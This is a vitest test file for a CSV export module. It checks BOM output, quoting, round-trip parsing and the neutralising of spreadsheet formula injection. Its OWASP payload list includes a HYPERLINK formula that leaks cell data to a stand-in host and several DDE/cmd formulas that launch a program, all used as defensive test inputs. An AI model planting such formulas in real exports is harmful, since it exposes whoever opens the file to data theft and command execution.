import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { BOM, neutraliseFormula, parseCsv, toCsv } from '../../src/export/csv';

describe('CSV', () => {
  it('starts with a BOM so Excel reads Chinese, quotes what needs quoting, and ends rows with CRLF', () => {
    const csv = toCsv([
      ['Item', 'Weight'],
      ['海底捞 "premium", <script>&', 0.15],
      ['two\nlines', null],
    ]);
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv).toBe(`${BOM}Item,Weight\r\n"海底捞 ""premium"", <script>&",0.15\r\n"two\nlines",\r\n`);
  });

  it('gives back exactly the text that went in, whatever it is (property)', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'grapheme', maxLength: 500 }), { minLength: 1, maxLength: 5 }), {
          minLength: 1,
          maxLength: 5,
        }),
        (rows) => {
          // A row of one empty field is written as an empty line, which reads back as no field at all.
          fc.pre(rows.every((r) => !(r.length === 1 && r[0] === '')));
          expect(parseCsv(toCsv(rows, { asTyped: true }))).toEqual(rows);
          // By default, only a formula-like start gains an apostrophe; everything else is as typed.
          expect(parseCsv(toCsv(rows))).toEqual(rows.map((r) => r.map(neutraliseFormula)));
        },
      ),
    );
  });

  // Payloads from OWASP's "CSV Injection" page (owasp.org/www-community/attacks/CSV_Injection) and its
  // recommended defence: prefix a cell starting with = + - @ tab or CR with a single quote.
  const OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for details")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '=1+1',
    '=DDE("cmd";"/C calc";"!A0")A0',
  ];

  it.each(OWASP_PAYLOADS)(
    'neutralises the OWASP payload %j by default, and keeps it with "as typed"',
    (payload) => {
      const [[safe]] = parseCsv(toCsv([[payload]])) as [[string]];
      expect(safe).toBe(`'${payload}`);
      const [[typed]] = parseCsv(toCsv([[payload]], { asTyped: true })) as [[string]];
      expect(typed).toBe(payload);
    },
  );

  it('keeps numbers, and plain numbers typed as text, as numbers', () => {
    expect(toCsv([[-12.5, '-3', '+4', '1e-3', '-7%', 'Cost - 5']])).toBe(
      `${BOM}-12.5,-3,+4,1e-3,'-7%,Cost - 5\r\n`,
    );
  });
});
